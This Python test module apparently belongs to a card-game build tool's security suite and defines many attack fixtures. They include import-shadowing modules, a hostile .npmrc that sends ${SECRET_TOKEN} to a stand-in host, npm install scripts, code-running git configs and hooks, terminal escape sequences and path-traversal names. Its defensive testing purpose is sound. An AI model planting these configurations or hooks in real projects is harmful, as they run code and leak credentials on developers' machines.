"""Attacks that run code, send secrets, or give orders to a terminal: modules, npm, git, names."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable, Mapping

from trials.attack import DECK, EITHER, HARMLESS, Attack, Content, Place, cards

PAYLOAD = 'open("@ELSEWHERE@/code-ran", "a").write(__name__ + "\\n")\n'
PACKAGES = (
    "PIL", "brotli", "cardgen", "click", "cssselect2", "ezdxf", "fontTools", "jinja2", "markdown_it",
    "markupsafe", "mdit_py_plugins", "numpy", "pathops", "pikepdf", "pydyf", "pypdfium2", "pyphen",
    "reportlab", "sitecustomize", "tinycss2", "tinyhtml5", "typst", "usercustomize", "weasyprint",
    "yaml", "__main__", "__init__",
)  # fmt: skip
MANY = {"cards/loot.yaml": cards(60)}
CARD = "  - {id: school, name: School}\n"
Made = Callable[[Place], None]


def code(name: str, modules: tuple[str, ...], inside: str = "", folder: str = "") -> Attack:
    """Modules that one standing in the game's folder might import; helpers are at work."""
    files: dict[str, Content] = dict(MANY)
    for module in modules:
        files[f"{folder}{module}.py"] = PAYLOAD
        files[
            f"{folder}{module}/__init__.py" if module in PACKAGES[:22] else f"{folder}{module}.pth"
        ] = PAYLOAD
    command = ("build", "sheets", "images")
    return Attack(f"code/{name}", files, (), HARMLESS, command=command, inside=inside)


ESCAPE = '"\\e]0;owned\\a\\e[2J\\u202eabc\\u2066\\x9b\\r\\b\\x7f"'
TERMINAL: tuple[Attack, ...] = (
    Attack("terminal/title", {"game.yaml": f"title: {ESCAPE}\nlanguages: [en]\nedition: {ESCAPE}\n"}, (), EITHER, command=("build",)),
    Attack("terminal/title-listed", {"game.yaml": f"title: {ESCAPE}\nlanguages: [en]\n"}, (), EITHER, command=("list",)),
    Attack("terminal/cards-listed", {"cards/loot.yaml": DECK.replace("title: Loot", f"title: {ESCAPE}")
           + f"  - {{id: school, name: {ESCAPE}, text: {ESCAPE}}}\n"}, (), EITHER, command=("list",)),
    Attack("terminal/cards-as-json", {"cards/loot.yaml": DECK + f"  - {{id: {ESCAPE}, name: {ESCAPE}}}\n"}, (), EITHER,
           command=("list", "--json")),
    Attack("terminal/problems-as-json", {"cards/loot.yaml": DECK + f"  - {{id: {ESCAPE}, {ESCAPE}: x}}\n"}, (), EITHER,
           command=("check", "--problems", "json")),
    Attack("terminal/problems-for-workflows", {"cards/loot.yaml": DECK + f"  - {{id: {ESCAPE}, {ESCAPE}: x}}\n"}, (), EITHER,
           command=("check", "--problems", "github")),
    Attack("terminal/ids", {"cards/loot.yaml": DECK + f"  - {{id: {ESCAPE}, {ESCAPE}: {ESCAPE}, name: {ESCAPE}}}\n"}, (), EITHER),
    Attack("terminal/names-of-files", {"cards/loot.yaml": DECK.replace("loot.html", ESCAPE).replace("loot.css", ESCAPE)
           .replace("cards:", f"rows: {ESCAPE}\ncards:") + CARD}, (), EITHER),
    Attack("terminal/deck", {"cards/loot.yaml": DECK.replace("deck: loot", f"deck: {ESCAPE}") + CARD}, (), EITHER),
    Attack("terminal/templates", {"templates/loot.html": "<img src='art/\x1b[2J\u202e.svg'>{{ card['\x1b[2J'] }}{% \x1b %}"}, (), EITHER),
    Attack("terminal/templates-of-art", {"templates/loot.html": "<img class='box' src='art/\x1b[2J\u202e.svg'>"}, (), EITHER),
    Attack("terminal/templates-undefined", {"templates/loot.html": "{{ card['\x1b[2J\u202e'] }}"}, (), EITHER),
    Attack("terminal/styles", {"templates/loot.css": ".box { \x1b[2J: \u202e; font-family: '\x1b]0;x\x07' }"}, (), EITHER),
    Attack("terminal/rules", {"cards/rules.yaml": f"rules:\n  - {{id: {ESCAPE}, require: {ESCAPE}, because: {ESCAPE}, section: {ESCAPE}}}\n"}, (), EITHER),
    Attack("terminal/rule-broken", {"cards/rules.yaml": f"rules:\n  - {{id: {ESCAPE}, count: loot, is: 7, because: {ESCAPE}, section: {ESCAPE}}}\n"}, (), EITHER),
    Attack("terminal/fonts", {"fonts/fonts.yaml": f"fonts:\n  - family: Roboto Condensed\n  - {{family: {ESCAPE}, package: {ESCAPE}}}\n"}, (), EITHER),
    Attack("terminal/book", {"rulebook/en.md": "[](#\x1b[2J\u202e)\n\n![](art/\x1b.png)\n\n{{ \x1b }}\n\n::: \x1b[2J\n"}, (), EITHER),
)  # fmt: skip


def packages(name: str, package: object, more: Mapping[str, Content] | None = None, made: Made | None = None,
             codes: tuple[int, ...] = EITHER) -> Attack:  # fmt: skip
    """An attack by what `cardgen fonts` hands to npm."""
    text = package if isinstance(package, str) else json.dumps(package)
    files = {"fonts/package.json": text, **(more or {})}
    return Attack(f"npm/{name}", files, (), codes, made=made, command=("fonts",))


PINNED = {"dependencies": {"@fontsource/roboto": "5.0.0"}}
RC = (
    "registry=http://@ENEMY@/${SECRET_TOKEN}/\n//@ENEMY@/:_authToken=${SECRET_TOKEN}\nscript-shell=@GAME@/fonts/run\n"
    "node-options=--require=@GAME@/fonts/evil.js\nignore-scripts=false\nprefix=@ELSEWHERE@\ncache=@ELSEWHERE@/cache\n"
)
EVIL: dict[str, Content] = {
    "fonts/evil.js": 'require("fs").writeFileSync("@ELSEWHERE@/code-ran", "js")\n',
    "fonts/local/package.json": json.dumps(
        {"name": "local", "version": "1.0.0", "scripts": {"install": "touch @ELSEWHERE@/code-ran"}}
    ),
}
LOCK = {"name": "x", "lockfileVersion": 3, "requires": True, "packages": {
    "": {"dependencies": {"@fontsource/roboto": "5.0.0"}},
    "node_modules/@fontsource/roboto": {"version": "5.0.0", "resolved": "http://@ENEMY@/roboto.tgz",
                                        "integrity": "sha512-x"}}}  # fmt: skip
NPM: tuple[Attack, ...] = (
    packages("npmrc", PINNED, {"fonts/.npmrc": RC, **EVIL}),
    packages("npmrc-of-the-game", PINNED, {".npmrc": RC, **EVIL}),
    packages("npmrc-is-a-link", PINNED, {"rc": RC}, lambda place: place.link("fonts/.npmrc", "../rc")),
    packages("file", {"dependencies": {"local": "file:./local"}}, EVIL),
    packages("file-elsewhere", {"dependencies": {"secret": "file:../../elsewhere"}}),
    packages("link", {"dependencies": {"secret": "link:../../elsewhere"}}),
    packages("git", {"dependencies": {"a": "git+http://@ENEMY@/a.git", "b": "git://@ENEMY@/b", "c": "github:a/b"}}),
    packages("address", {"dependencies": {"a": "http://@ENEMY@/a.tgz"}}),
    packages("alias", {"dependencies": {"@fontsource/roboto": "npm:left-pad@1.0.0"}}),
    packages("workspaces", {**PINNED, "workspaces": ["local", "../../elsewhere"]}, EVIL),
    packages("scripts", {**PINNED, "scripts": dict.fromkeys(("preinstall", "install", "postinstall", "prepare"), "touch @ELSEWHERE@/code-ran")}),
    packages("overrides", {**PINNED, "overrides": {"@fontsource/roboto": "http://@ENEMY@/a.tgz"}}),
    packages("names-that-lead-out", {"dependencies": {"../../../elsewhere/x": "1.0.0", "@a/../../x": "1.0.0"}}),
    packages("names-odd", {"dependencies": {"--registry=http://@ENEMY@/": "1.0.0", "a b": "1", "": "1", "\x1b[2J": "\x1b[2J"}}),
    packages("versions-odd", {"dependencies": {"a": ["1"], "b": None, "c": {"d": "e"}, "d": 7, "e": "latest", "f": "*"}}),
    packages("lock-elsewhere", PINNED, {"fonts/package-lock.json": json.dumps(LOCK)}),
    packages("lock-link", PINNED, {"fonts/package-lock.json": json.dumps(LOCK).replace(
        '"version": "5.0.0", "resolved": "http://@ENEMY@/roboto.tgz"', '"resolved": "../../elsewhere", "link": true')}),
    packages("lock-deep", PINNED, {"fonts/package-lock.json": "[" * 200_000}),
    packages("deep", "[" * 200_000),
    packages("list", "[]"),
    packages("bytes", "\0\x01"),
    packages("many", {"dependencies": {f"@fontsource/a{n}": "1.0.0" for n in range(20_000)}}),
    packages("modules-elsewhere", PINNED, None, lambda place: place.link("fonts/node_modules", place.elsewhere)),
    packages("modules-of-one-elsewhere", PINNED, None,
             lambda place: place.link("fonts/node_modules/@fontsource", place.elsewhere)),
    packages("package-is-a-link", PINNED, None, lambda place: place.link("fonts/package.json", place.elsewhere / "secret.json")),
    packages("lock-is-a-link", PINNED, None, lambda place: place.link("fonts/package-lock.json", place.elsewhere / "secret.json")),
)  # fmt: skip


def repository(name: str, settings: str, more: Mapping[str, Content] | None = None) -> Attack:
    """A game in a git repository of a stranger, whose settings run programs."""

    def make(place: Place) -> None:
        git = [
            "git",
            "-c",
            "user.name=a",
            "-c",
            "user.email=a@example.org",
            "-c",
            "commit.gpgsign=false",
        ]
        for words in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "x"]):
            subprocess.run([*git, *words], cwd=place.game, check=True, capture_output=True)
        with (place.game / ".git/config").open("a") as file:
            file.write(place.filled(settings))
        for hook in ("post-checkout", "fsmonitor-watchman", "pre-commit", "post-index-change"):
            path = place.game / ".git/hooks" / hook
            path.parent.mkdir(exist_ok=True)
            path.write_text(f"#!/bin/sh\ntouch {place.elsewhere}/code-ran\n")
            path.chmod(0o755)
        place.write("cards/loot.yaml", DECK + "  - {id: school, name: Academy}\n")

    return Attack(f"git/{name}", more or {}, (), EITHER, made=make,
                  command=("build", "@GAME@", "sheets", "--changed", "--since", "HEAD"))  # fmt: skip


RUN = "touch @ELSEWHERE@/code-ran"
GIT: tuple[Attack, ...] = (
    repository("monitor", f'[core]\n\tfsmonitor = "{RUN};"\n\thooksPath = .git/hooks\n\tsshCommand = {RUN}\n\tpager = {RUN}\n\teditor = {RUN}\n'),
    repository("filter", f'[filter "x"]\n\tsmudge = {RUN}\n\tclean = {RUN}\n\tprocess = {RUN}\n\trequired = true\n'
               f'[diff "x"]\n\ttextconv = {RUN}\n\tcommand = {RUN}\n', {".gitattributes": "* filter=x diff=x\n"}),
    repository("include", "[include]\n\tpath = @ELSEWHERE@/secret.txt\n[core]\n\tworktree = @ELSEWHERE@\n\tbare = false\n"),
    repository("aliases", f'[alias]\n\tls-tree = "!{RUN}"\n\tcat-file = "!{RUN}"\n\trev-parse = "!{RUN}"\n[credential]\n\thelper = "!{RUN}"\n'),
    repository("remote", f"[remote \"origin\"]\n\turl = ext::sh -c {RUN}\n\tpromisor = true\n\tpartialclonefilter = blob:none\n"
               f"[extensions]\n\tpartialClone = origin\n[core]\n\trepositoryformatversion = 1\n[uploadpack]\n\tpackObjectsHook = {RUN}\n"),
)  # fmt: skip
STANDARD = tuple(sorted(sys.stdlib_module_names - {"this", "antigravity", "__main__"}))
CODE: tuple[Attack, ...] = (
    code("multiprocessing", ("multiprocessing",)),
    code("standard-library", STANDARD),
    code("packages", PACKAGES),
    code("packages-in-templates", (*PACKAGES, *STANDARD), "templates", "templates/"),
    Attack("code/settings", {**MANY, "pyvenv.cfg": "home = @GAME@\n", "setup.cfg": "x", "fonts.conf": "<fontconfig>"
           "<dir>/</dir></fontconfig>", ".fonts.conf": "x", "python._pth": "@GAME@\n", ".env": "PYTHONPATH=@GAME@\n",
           "typst.toml": "x", ".gitconfig": "x"}, (), HARMLESS, command=("build", "sheets"), inside=""),
)  # fmt: skip
INSTALL: tuple[Attack, ...] = tuple(
    Attack(f"install/{name}", {"game.yaml": f"game: {game}\ntitle: {{en: x}}\nlanguages: [en]\n"}, (), EITHER,
           command=("build", "@GAME@", "tts", "--tts-dir", "@GAME@/build/client", "--install"),
           made=lambda place: (place.game / "build/client").mkdir(parents=True))
    for name, game in {"leads-out": "../../../../elsewhere/x", "absolute": "@ELSEWHERE@/x", "dots": "'..'",
                       "nul": '"a\\0b"', "long": "x" * 300, "escape": '"\\e[2J"'}.items()
)  # fmt: skip
ATTACKS = (*CODE, *NPM, *GIT, *TERMINAL, *INSTALL)
